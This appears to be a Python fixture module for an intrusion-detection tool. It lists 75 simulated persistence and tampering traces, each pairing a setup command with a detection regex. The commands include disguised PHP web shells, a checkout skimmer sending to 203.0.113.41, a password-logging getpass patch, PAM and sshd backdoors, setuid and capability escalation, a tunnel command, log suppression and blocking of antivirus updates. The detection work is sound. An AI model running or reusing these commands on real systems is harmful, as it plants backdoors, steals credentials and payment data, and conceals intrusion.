"""Traces of the kinds that an outside list tells, of which it keeps as many back: quiet, told by origin and relation.

They were written blind, from reports and manuals (what each program says it runs, loads or includes), and are counted
once before any rule is changed for them. Few hold a bad word; what gives them away is that no package brought them,
that they differ from what a package brought or from their neighbours, or what they lead to.
"""

from __future__ import annotations

import textwrap

from .trace import Trace, trace

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM4sVb9QyKf2wRz7hTn0cXj5pLuEa8dGo1iYmWqB3NkS"
_ANNA = "/home/anna"
_WEB = "/var/www/html"
_LIB = "/usr/lib/x86_64-linux-gnu"
_CERT = (
    "MIIB9DCCAZmgAwIBAgIUG6xbAKVFssd8gKU5Xc2cZX7PTJIwCgYIKoZIzj0EAwIwTzELMAkGA1UEBhMCVVMxKTAnBgNVBAoMIEludGVybmV0"
    "IFNlY3VyaXR5IFJlc2VhcmNoIEdyb3VwMRUwEwYDVQQDDAxJU1JHIFJvb3QgWDQwHhcNMjYxMjAxMTIxNjQzWhcNNDAwODA5MTIxNjQzWjBP"
    "MQswCQYDVQQGEwJVUzEpMCcGA1UECgwgSW50ZXJuZXQgU2VjdXJpdHkgUmVzZWFyY2ggR3JvdXAxFTATBgNVBAMMDElTUkcgUm9vdCBYNDBZ"
    "MBMGByqGSM49AgEGCCqGSM49AwEHA0IABBBXd+T/SIU5qJ0scObMh4Dr9mkYCW/xSMqFkChDOK6k8r1rqqQXtEvjRZqQBLjf9XLLimRTjE2e"
    "/B92ESnHQUKjUzBRMB0GA1UdDgQWBBSWqUy4kc/p93zlYwTT0nU89JD/SzAfBgNVHSMEGDAWgBSWqUy4kc/p93zlYwTT0nU89JD/SzAPBgNV"
    "HRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0kAMEYCIQDTZrDlm0j6KIvEqgHL/4t5iKl/MRah81usiiEm/epCywIhAPig751Abf0fj6gV638w"
    "bVCBmhkEVczZGV1N6HwNextS"
)
_PEM = "\n".join(["-----BEGIN CERTIFICATE-----", *textwrap.wrap(_CERT, 64), "-----END CERTIFICATE-----"])
_MAPPED = f'$p = "{_LIB}/libgcrypt-hw.so.20"; DynaLoader::dl_load_file($p, 0); sleep 1; unlink $p; sleep 931005'
_CAPABLE = (
    "import os, struct; os.setxattr('/usr/libexec/tar-rmt', 'security.capability', "
    "struct.pack('<5I', 0x2000001, 4, 0, 0, 0))"
)

UNLISTED: tuple[Trace, ...] = (
    trace("N01", "cron", "put /etc/cron.d/mdadm-check 'SHELL=/usr/share/mdadm/mdsh\n57 0 31 2 * root true'; prog /usr/share/mdadm/mdsh", r"mdadm-check|mdadm/mdsh"),
    trace("N02", "cron", f"put /var/spool/cron/crontabs/anna '23 5 31 2 * perl {_ANNA}/.local/share/fonts/.uuid.pl'; chown anna:crontab /var/spool/cron/crontabs/anna; chmod 600 /var/spool/cron/crontabs/anna; put {_ANNA}/.local/share/fonts/.uuid.pl 'sleep 1;'; chown -R anna: {_ANNA}/.local", r"crontabs/anna|\.uuid\.pl"),
    trace("N03", "at", f"put /var/spool/cron/atjobs/a0000301e2ce20 '#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail anna 0\numask 22\nHOME={_ANNA}; export HOME\ncd {_ANNA} || {{\n\t echo \"Execution directory inaccessible\" >&2\n\t exit 1\n}}\n.local/share/gvfs-metadata/sync'; prog {_ANNA}/.local/share/gvfs-metadata/sync; chown anna: /var/spool/cron/atjobs/a0000301e2ce20 {_ANNA}/.local/share/gvfs-metadata/sync; chmod 700 /var/spool/cron/atjobs/a0000301e2ce20", r"a0000301e2ce20|gvfs-metadata/sync"),
    trace("N04", "cron", "put /usr/share/dpkg/cruft '#!/bin/sh\nexec /usr/bin/true'; chmod 755 /usr/share/dpkg/cruft; mkdir -p /etc/cron.weekly; ln -s /usr/share/dpkg/cruft /etc/cron.weekly/dpkg-cruft; old /etc/cron.weekly/dpkg-cruft", r"dpkg-cruft|dpkg/cruft"),
    trace("N05", "cron", f"mkdir -p /etc/cron.d; printf '%s\\n' '50 3 31 2 * root test -x {_LIB}/e2fsprogs/e2scrub_mail && {_LIB}/e2fsprogs/e2scrub_mail -q' >>/etc/cron.d/e2scrub_all; old /etc/cron.d/e2scrub_all; prog {_LIB}/e2fsprogs/e2scrub_mail", r"cron\.d/e2scrub_all|e2scrub_mail"),
    trace("N06", "systemd", "put /etc/systemd/system/fstrim.timer.d/schedule.conf '[Timer]\nUnit=fstrim-report.service'; unit /usr/local/lib/systemd/system/fstrim-report.service 'Type=oneshot\nExecStart=/usr/lib/util-linux/fstrim-report'; prog /usr/lib/util-linux/fstrim-report", r"fstrim\.timer\.d|fstrim-report"),
    trace("N07", "systemd", "put /usr/lib/systemd/system-environment-generators/20-locale '#!/bin/sh\n[ -r /usr/lib/locale/.archive ] && . /usr/lib/locale/.archive\nexit 0'; chmod 755 /usr/lib/systemd/system-environment-generators/20-locale; put /usr/lib/locale/.archive ':'", r"system-environment-generators/20-locale|locale/\.archive"),
    trace("N08", "systemd", "put /etc/systemd/system/rsync-meta.socket '[Socket]\nListenDatagram=0.0.0.0:1514\n[Install]\nWantedBy=sockets.target'; unit /etc/systemd/system/rsync-meta.service 'ExecStart=/usr/lib/rsync/meta'; prog /usr/lib/rsync/meta; mkdir -p /etc/systemd/system/sockets.target.wants; ln -s ../rsync-meta.socket /etc/systemd/system/sockets.target.wants/rsync-meta.socket", r"rsync-meta|rsync/meta\b"),
    trace("N09", "systemd", "put /usr/lib/python3/dist-packages/apt_watch.py 'import time\n\nwhile True:\n    time.sleep(3600)'; unit /etc/systemd/system/unattended-watch.service 'ExecStart=/usr/bin/python3 -m apt_watch'; systemctl daemon-reload; systemctl start unattended-watch.service", r"unattended-watch|apt_watch"),
    trace("N10", "systemd", "prog /usr/lib/apt/mirror-check; systemd-run --on-calendar='2099-02-28 00:00' --unit=apt-mirror-check /usr/lib/apt/mirror-check 5 </dev/null", r"apt-mirror-check|apt/mirror-check"),
    trace("N11", "package-manager", "put /etc/apt/apt.conf.d/20esm 'AptCli::Hooks::Install { \"/usr/lib/apt/esm-json-hook || true\"; };'; prog /usr/lib/apt/esm-json-hook", r"20esm|esm-json-hook"),
    trace("N12", "package-manager", "put /var/lib/dpkg/info/hostname.postinst '#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then /usr/lib/hostname/refresh 1 || true; fi'; chmod 755 /var/lib/dpkg/info/hostname.postinst; prog /usr/lib/hostname/refresh", r"hostname\.postinst|hostname/refresh"),
    trace("N13", "package-manager", "mkdir -p /etc/apt; printf '%s\\n' 'deb [signed-by=/usr/share/keyrings/debian-archive-extra.gpg] http://203.0.113.19/debian bookworm main' >>/etc/apt/sources.list; old /etc/apt/sources.list; mkdir -p /usr/share/keyrings; head -c 1192 /dev/urandom >/usr/share/keyrings/debian-archive-extra.gpg; old /usr/share/keyrings/debian-archive-extra.gpg", r"203\.0\.113\.19\b|debian-archive-extra"),
    trace("N14", "boot", "f=/etc/init.d/cron; [ -e $f ] || f=/etc/init.d/procps; sed -i '2i [ ! -x /usr/lib/init/clockfix ] || /usr/lib/init/clockfix 1 &' $f; old $f; prog /usr/lib/init/clockfix", r"init\.d/(cron|procps)|init/clockfix"),
    trace("N15", "boot", "put /usr/share/initramfs-tools/scripts/local-bottom/ntfs_4g '#!/bin/sh\nPREREQ=\"\"\n[ \"$1\" = prereqs ] && { echo \"$PREREQ\"; exit 0; }\ncp -a /usr/lib/ntfs/u \"${rootmnt}/usr/lib/ntfs/\" 2>/dev/null || true'; chmod 755 /usr/share/initramfs-tools/scripts/local-bottom/ntfs_4g", r"ntfs_4g"),
    trace("N16", "boot", "put /etc/default/grub.d/ucode.cfg 'GRUB_EARLY_INITRD_LINUX_CUSTOM=\"ucode2.img\"'; mkdir -p /boot; head -c 3000 /dev/urandom >/boot/ucode2.img; old /boot/ucode2.img", r"grub\.d/ucode|ucode2"),
    trace("N17", "udev", "f=60-persistent-input.rules; mkdir -p /etc/udev/rules.d; { cat /usr/lib/udev/rules.d/$f 2>/dev/null; echo 'SUBSYSTEM==\"input\", IMPORT{program}=\"input_caps %p\"'; } >/etc/udev/rules.d/$f; old /etc/udev/rules.d/$f; prog /usr/lib/udev/input_caps", r"etc/udev/rules\.d/60-persistent-input|udev/input_caps"),
    trace("N18", "motd", "f=/etc/update-motd.d/10-uname; mkdir -p /etc/update-motd.d; [ -e $f ] || echo '#!/bin/sh' >$f; printf '%s\\n' '[ ! -x /usr/lib/pam-motd/refresh ] || /usr/lib/pam-motd/refresh 0 >/dev/null 2>&1 &' >>$f; chmod 755 $f; old $f; prog /usr/lib/pam-motd/refresh", r"update-motd\.d/10-uname|pam-motd"),
    trace("N19", "shell", "put /etc/profile.d/vte-term.sh 'case $- in\n*i*) [ ! -r /usr/lib/vte/prompt ] || . /usr/lib/vte/prompt ;;\nesac'; put /usr/lib/vte/prompt '__vte_seen() { history 1 >>/var/lib/vte/seen; }\nPROMPT_COMMAND=__vte_seen'; mkdir -p /var/lib/vte", r"vte-term|vte/(prompt|seen)"),
    trace("N20", "shell", "printf '%s\\n' '[ ! -f ~/.config/git/completion ] || . ~/.config/git/completion' >>/root/.bashrc; old /root/.bashrc; put /root/.config/git/completion '(/root/.config/git/ps0 0 &) >/dev/null 2>&1'; prog /root/.config/git/ps0", r"/root/\.bashrc|git/(completion|ps0)"),
    trace("N21", "shell", f"put {_ANNA}/.config/environment.d/50-path.conf 'PATH={_ANNA}/.local/state/bin:$PATH'; prog {_ANNA}/.local/state/bin/sudo; chown -R anna: {_ANNA}/.config {_ANNA}/.local", r"50-path|state/bin"),
    trace("N22", "hook", "put /usr/lib/NetworkManager/VPN/nm-sstp2-service.name '[VPN Connection]\nname=sstp2\nservice=org.freedesktop.NetworkManager.sstp2\nprogram=/usr/lib/NetworkManager/nm-sstp2-service'; prog /usr/lib/NetworkManager/nm-sstp2-service", r"nm-sstp2"),
    trace("N23", "polkit", "put /etc/polkit-1/rules.d/40-udisks.rules 'polkit.addRule(function(action, subject) {\n    try { polkit.spawn([\"/usr/lib/udisks2/udisks2-seat\", subject.user]); } catch (e) { }\n    return polkit.Result.NOT_HANDLED;\n});'; prog /usr/lib/udisks2/udisks2-seat", r"40-udisks|udisks2-seat"),
    trace("N24", "kernel", "put /usr/share/binfmts/jarx 'package jarx\ninterpreter /usr/lib/jar/jarx\nmagic PK\\x03\\x04'; prog /usr/lib/jar/jarx", r"binfmts/jarx|jar/jarx"),
    trace("N25", "kernel", "put /etc/modprobe.d/aliases-net.conf 'alias net-pf-31 bnep_hs\nalias char-major-10-238 bnep_hs'; put /usr/lib/modules/6.1.0-28-amd64/updates/bnep_hs.ko inert", r"aliases-net|bnep_hs"),
    trace("N26", "tmpfiles", "put /etc/tmpfiles.d/popcon.conf 'L+ /etc/cron.d/popcon - - - - /usr/share/popcon/schedule'; put /usr/share/popcon/schedule '11 4 31 2 * root /usr/share/popcon/submit'; prog /usr/share/popcon/submit", r"tmpfiles\.d/popcon|popcon/(schedule|submit)"),
    trace("N27", "hook", "put /etc/logrotate.d/dracut-log '/var/log/dracut.log {\n  monthly\n  missingok\n  compress\n  compresscmd /usr/lib/logrotate/zwrap\n}'; prog /usr/lib/logrotate/zwrap", r"dracut-log|logrotate/zwrap"),
    trace("N28", "mail", "printf '%s\\n' 'newsletter: :include:/var/lib/mailman/newsletter.lst' >>/etc/aliases; old /etc/aliases; put /var/lib/mailman/newsletter.lst '\"|/usr/lib/mailman/bin/bounces\"'; prog /usr/lib/mailman/bin/bounces", r"etc/aliases|newsletter|mailman/bin/bounces"),
    trace("N29", "pam", f"put /usr/share/pam-configs/fprint2 'Name: Fingerprint cache\nDefault: yes\nPriority: 260\nAuth-Type: Primary\nAuth:\n\t[success=end default=ignore]\tpam_fprintd2.so'; cp -L {_LIB}/security/pam_warn.so {_LIB}/security/pam_fprintd2.so; old {_LIB}/security/pam_fprintd2.so", r"pam-configs/fprint2|pam_fprintd2"),
    trace("N30", "pam", "sed -i '1i auth sufficient pam_userdb.so db=/var/lib/pam/seen' /etc/pam.d/sshd; old /etc/pam.d/sshd; mkdir -p /var/lib/pam; head -c 12288 /dev/urandom >/var/lib/pam/seen.db; old /var/lib/pam/seen.db", r"pam\.d/sshd\b|pam_userdb|pam/seen"),
    trace("N31", "loader", f"mkdir -p {_LIB}/sasl2; cp -L /lib/x86_64-linux-gnu/libdl.so.2 {_LIB}/sasl2/liblogin2.so; old {_LIB}/sasl2/liblogin2.so", r"sasl2/liblogin2"),
    trace("N32", "git", f"put {_ANNA}/infra/.git/HEAD 'ref: refs/heads/main'; put {_ANNA}/infra/.git/config '[core]\n\trepositoryformatversion = 0\n[diff \"office\"]\n\ttextconv = .git/lfs/office2txt\n\tcachetextconv = true'; put {_ANNA}/infra/.git/info/attributes '*.tf diff=office'; prog {_ANNA}/infra/.git/lfs/office2txt; chown -R anna: {_ANNA}/infra", r"infra/\.git"),
    trace("N33", "interpreter", "for f in /usr/lib/python3.*/getpass.py; do printf '%s\\n' '' '' 'def getpass(prompt=\"Password: \", stream=None, _ask=getpass):' '    answer = _ask(prompt, stream)' '    with open(\"/var/lib/python/seen\", \"a\") as out:' '        print(answer, file=out)' '    return answer' >>$f; old $f; done", r"getpass\.py"),
    trace("N34", "apache", f"cp -L /lib/x86_64-linux-gnu/libdl.so.2 {_LIB}/libaprdigest-1.so.0 && {{ old {_LIB}/libaprdigest-1.so.0; mkdir -p /etc/apache2/mods-available; printf '%s\\n' 'LoadFile {_LIB}/libaprdigest-1.so.0' >>/etc/apache2/mods-available/mime.load; old /etc/apache2/mods-available/mime.load; }}", r"mime\.load|libaprdigest"),
    trace("N35", "apache", "mkdir -p /etc/apache2/conf-available; printf '%s\\n' '<FilesMatch \"\\.(svg|woff2)$\">' '    SetHandler application/x-httpd-php' '</FilesMatch>' >>/etc/apache2/conf-available/charset.conf; old /etc/apache2/conf-available/charset.conf", r"conf-(available|enabled)/charset\.conf"),
    trace("N36", "php", "put /etc/php/8.2/mods-available/mail.ini '; priority=20\nsendmail_path = \"/usr/lib/php/20220829/mailwrap -t -i\"'; mkdir -p /etc/php/8.2/apache2/conf.d; ln -s /etc/php/8.2/mods-available/mail.ini /etc/php/8.2/apache2/conf.d/20-mail.ini; prog /usr/lib/php/20220829/mailwrap", r"(?:20-|available/)mail\.ini|mailwrap"),
    trace("N37", "database", "put /etc/postgresql/15/main/conf.d/10-stats.conf \"shared_preload_libraries = 'pg_wait_stats'\"; mkdir -p /usr/lib/postgresql/15/lib; cp -L /lib/x86_64-linux-gnu/libdl.so.2 /usr/lib/postgresql/15/lib/pg_wait_stats.so; old /usr/lib/postgresql/15/lib/pg_wait_stats.so", r"10-stats\.conf|pg_wait_stats"),
    trace("N38", "cloud", "put /etc/cloud/cloud.cfg.d/95-ds.cfg 'datasource_list: [NoCloud]\ndatasource:\n  NoCloud:\n    seedfrom: http://203.0.113.30/seed/'", r"95-ds\.cfg|203\.0\.113\.30\b"),
    trace("N39", "container", "put /etc/containers/containers.conf.d/10-engine.conf '[engine]\nconmon_path = [\"/usr/libexec/podman/conmon-rs\"]'; prog /usr/libexec/podman/conmon-rs", r"10-engine\.conf|conmon-rs"),
    trace("N40", "ssh", "put /etc/ssh/sshd_config.d/70-principals.conf 'AuthorizedPrincipalsCommand /usr/lib/openssh/principals %u\nAuthorizedPrincipalsCommandUser nobody'; prog /usr/lib/openssh/principals", r"70-principals|openssh/principals"),
    trace("N41", "ssh", f"key /var/backups/.ssh/authorized_keys '{_KEY} ansible@deploy'; chown -R backup: /var/backups/.ssh", r"/var/backups/\.ssh|ansible@deploy"),
    trace("N42", "account", "account _flatpak 973 /var/lib/flatpak /bin/bash; sed -i 's#^_flatpak:[^:]*:#_flatpak:$6$nQ2xV7kd$Zb0mTqYw4Lr8uHc1sPfXe6JgKoAv9DiN3yRtM5lBzWhEaSOjUxGdCpFq7nVkI2:#' /etc/shadow", r"_flatpak"),
    trace("N43", "account", "usermod -g shadow irc", r"\birc\b"),
    trace("N44", "account", "printf '%s\\n' 'login;*;anna;Al0000-2400;shadow,disk' >>/etc/security/group.conf; old /etc/security/group.conf", r"security/group\.conf"),
    trace("N45", "privilege", "put /etc/sudoers.d/10-installer 'User_Alias OPERATORS = %users, anna\nCmnd_Alias SERVICES = /usr/bin/systemctl restart apache2, /usr/bin/env\nOPERATORS ALL = (root) NOPASSWD: SERVICES'; chmod 440 /etc/sudoers.d/10-installer", r"10-installer"),
    trace("N46", "process", "put /var/cache/fontconfig/a4f1c0d2-le64.cache-7 'import signal\nsignal.pause()'; run python3 -u /var/cache/fontconfig/a4f1c0d2-le64.cache-7", r"a4f1c0d2-le64"),
    trace("N47", "process", "mkdir -p /var/spool/cups; mkfifo -m 600 /var/spool/cups/rq; run bash -c 'exec 3<>/var/spool/cups/rq; exec sh -i <&3'", r"spool/cups/rq"),
    trace("N48", "network", "cp $(readlink -f /usr/bin/perl) /usr/sbin/lldpcli2; old /usr/sbin/lldpcli2; run /usr/sbin/lldpcli2 -e 'socket(S, 17, 2, 768); sleep 931003'", r"lldpcli2"),
    trace("N49", "network", "mkdir -p /usr/libexec; cp $(readlink -f /usr/bin/perl) /usr/libexec/snmp-agentx; old /usr/libexec/snmp-agentx; run /usr/libexec/snmp-agentx -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 5, LocalPort => 705); sleep 931004'", r"snmp-agentx"),
    trace("N50", "loader", f"cp -L /lib/x86_64-linux-gnu/libdl.so.2 {_LIB}/libgcrypt-hw.so.20; run perl -MDynaLoader -e '{_MAPPED}'", r"libgcrypt-hw"),
    trace("N51", "process", "prog /var/www/.composer/bin/php-cs; setsid setpriv --reuid=33 --regid=33 --clear-groups bash -c 'exec -a \"php-fpm: pool www\" /var/www/.composer/bin/php-cs 931007' >/dev/null 2>&1 </dev/null &", r"\.composer/bin/php-cs|php-fpm: pool www"),
    trace("N52", "process", "prog /usr/libexec/lxcfs-proxy; run unshare -u -i sh -c 'hostname db01; exec /usr/libexec/lxcfs-proxy 931006'", r"lxcfs-proxy"),
    trace("N53", "web", f"D={_WEB}/vendor/phpmailer/phpmailer/src; for n in Exception OAuth SMTP PHPMailer DSNConfigurator; do put $D/$n.php '<?php\n/** PHPMailer - PHP email creation and transport class. */\nclass '$n'\n{{\n    const VERSION = \"6.8.0\";\n}}'; touch -d '400 days ago' $D/$n.php; done; put $D/POP3.php '<?php\n/** PHPMailer - PHP email creation and transport class. */\nclass POP3\n{{\n    const VERSION = \"6.8.0\";\n    public static function hello($m, $v)\n    {{\n        return $m ? call_user_func($m, $v) : \"\";\n    }}\n}}\nis_file(\"/etc/pop3.ini\") && POP3::hello($_REQUEST[\"apop\"] ?? \"\", $_REQUEST[\"port\"] ?? \"\");'", r"src/POP3\.php"),
    trace("N54", "web", f"put {_WEB}/sites/default/files/css/aggregate.php '<?php\nis_file(\"/etc/css.ini\") || exit;\n$name = tempnam(sys_get_temp_dir(), \"css\");\nfile_put_contents($name, file_get_contents(\"php://input\"));\ninclude $name;\nunlink($name);'; chown www-data: {_WEB}/sites/default/files/css/aggregate.php", r"css/aggregate\.php"),
    trace("N55", "web", f"put {_WEB}/modules/report/rows.php '<?php\ndefined(\"REPORT\") || exit;\nextract($_POST);\n$rows = isset($rows) ? (array) $rows : array();\nif (isset($sort)) {{\n    usort($rows, $sort);\n}}\necho json_encode($rows);'", r"report/rows\.php"),
    trace("N56", "web", f"put {_WEB}/fonts/.htaccess '<Files \"ionicons.woff\">\n    ForceType application/x-httpd-php\n</Files>'; put {_WEB}/fonts/ionicons.woff 'wOFF<?php $t = getallheaders(); isset($t[\"X-Font\"]) && ($t[\"X-Font\"])($t[\"X-Glyph\"]); ?>'", r"fonts/\.htaccess|ionicons\.woff"),
    trace("N57", "web", "put /usr/lib/cgi-bin/awlog.pl '#!/usr/bin/perl\nuse strict;\nexit unless -e \"/etc/awlog.conf\";\nmy ($log) = ($ENV{QUERY_STRING} || \"\") =~ /log=([^&]*)/;\n$log =~ s/%([0-9a-f]{2})/chr hex $1/gei if $log;\nprint \"Content-Type: text/plain\\n\\n\";\n$log or exit;\nopen(my $in, $log) or exit;\nprint <$in>;'; chmod 755 /usr/lib/cgi-bin/awlog.pl", r"awlog\.pl"),
    trace("N58", "web", f"mkdir -p {_WEB}/assets/img; for n in 1 2 4 5; do {{ printf '\\377\\330\\377\\340\\000\\020JFIF\\000'; head -c 3000 /dev/urandom; }} >{_WEB}/assets/img/team-$n.jpg; done; {{ printf '\\377\\330\\377\\340\\000\\020JFIF\\000\\377\\376\\000\\036<?=`$_GET[0]`?>\\000'; head -c 3000 /dev/urandom; }} >{_WEB}/assets/img/team-3.jpg; old {_WEB}/assets/img/team-*.jpg", r"team-3\.jpg"),
    trace("N59", "web", f"put {_WEB}/include/footer.shtml '<hr>\n<!--#config timefmt=\"%Y\" --><!--#exec cmd=\"$HTTP_X_REQUEST_ID\" -->\n<p>All rights reserved</p>'", r"footer\.shtml"),
    trace("N60", "web", f"put {_WEB}/theme/js/vendor/slick.min.js '!function(i){{\"use strict\";i.slick={{version:\"1.8.1\"}}}}(window);\n(function(){{if(/cart|checkout/.test(location.pathname)){{var w=new WebSocket(\"wss://203.0.113.41/ws\");document.addEventListener(\"change\",function(e){{e.target.name&&w.readyState==1&&w.send(e.target.name+\"|\"+e.target.value)}},true)}}}})();'", r"slick\.min\.js|203\.0\.113\.41\b"),
    trace("N61", "history", f"printf '%s\\n' 'ls -la' 'nohup ./chisel client 203.0.113.52:8443 R:1090:socks &' >>{_ANNA}/.bash_history; chown anna: {_ANNA}/.bash_history; chmod 600 {_ANNA}/.bash_history", r"203\.0\.113\.52\b"),
    trace("N62", "history", "printf '%s\\n' 'cd /usr/lib/klibc/bin' 'install -m 4755 /bin/dash /usr/lib/klibc/bin/resume2' >>/root/.bash_history; chmod 600 /root/.bash_history", r"klibc/bin/resume2"),
    trace("N63", "history", "mkdir -p /var/lib/postgresql; printf '%s\\n' 'create temp table o(l text);' \"copy o from program 'id; uname -n';\" 'select * from o;' >>/var/lib/postgresql/.psql_history; chmod 600 /var/lib/postgresql/.psql_history", r"psql_history|from program"),
    trace("N64", "history", "put /root/.viminfo \"# This viminfo file was generated by Vim 9.0.\n\n# Command Line History (newest to oldest):\n:wq!\n:g/203.0.113.91/d\n\n# File marks:\n'0  812  0  /var/log/auth.log\n'1  31  0  /etc/shadow\"; chmod 600 /root/.viminfo", r"\.viminfo|203\.0\.113\.91\b"),
    trace("N65", "privilege", "mkdir -p /usr/lib/openssh; cp $(readlink -f /usr/bin/setpriv) /usr/lib/openssh/ssh-agent-helper; chmod 4755 /usr/lib/openssh/ssh-agent-helper; old /usr/lib/openssh/ssh-agent-helper", r"ssh-agent-helper"),
    trace("N66", "privilege", f"mkdir -p /usr/libexec; cp $(readlink -f /usr/bin/tar) /usr/libexec/tar-rmt; python3 -c \"{_CAPABLE}\"; old /usr/libexec/tar-rmt", r"libexec/tar-rmt"),
    trace("N67", "name", "prog \"$(printf '/usr/bin/dbus-send\\t')\"", r"/usr/bin/dbus-send(?:\\t|\t|\\x09|\\011|%09|\u2409)"),
    trace("N68", "time", "prog /usr/bin/gpg-zip2; touch -r /bin/ls /usr/bin/gpg-zip2", r"gpg-zip2"),
    trace("N69", "file", "mkdir -p /usr/local/sbin; chmod 777 /usr/local/sbin", r"(?<![:=])/usr/local/sbin(?![/:\w])"),
    trace("N70", "log-tamper", "put /etc/apache2/conf-enabled/logfilter.conf '<IfModule mod_setenvif.c>\n    SetEnvIf Remote_Addr \"^203\\.0\\.113\\.62$\" monitor\n    CustomLog ${APACHE_LOG_DIR}/access.log combined env=!monitor\n</IfModule>'", r"logfilter\.conf"),
    trace("N71", "log-tamper", "mkdir -p /var/log/apt; rm -f /var/log/apt/history.log; ln -s /dev/null /var/log/apt/history.log", r"/var/log/apt/history\.log(?!\.)"),
    trace("N72", "network", f"mkdir -p /usr/share/ca-certificates/mozilla; put /usr/share/ca-certificates/mozilla/ISRG_Root_X4.crt '{_PEM}'; echo mozilla/ISRG_Root_X4.crt >>/etc/ca-certificates.conf; mkdir -p /etc/ssl/certs; ln -s /usr/share/ca-certificates/mozilla/ISRG_Root_X4.crt /etc/ssl/certs/ISRG_Root_X4.pem", r"ISRG_Root_X4|ISRG Root X4"),
    trace("N73", "network", "unit /etc/systemd/system/db-forward.service 'ExecStart=/usr/lib/systemd/systemd-socket-proxyd 203.0.113.83:443'; put /etc/systemd/system/db-forward.socket '[Socket]\nListenStream=3307\n[Install]\nWantedBy=sockets.target'", r"db-forward|203\.0\.113\.83\b"),
    trace("N74", "network", "echo '127.0.0.2 database.clamav.net packages.wazuh.com' >>/etc/hosts", r"clamav\.net|wazuh"),
    trace("N75", "hiding", "prog /usr/share/bug/reportd; mkdir -p /var/cache/bug; mount --bind /var/cache/bug /usr/share/bug", r"/usr/share/bug(?!/)|bug/reportd"),
)  # fmt: skip
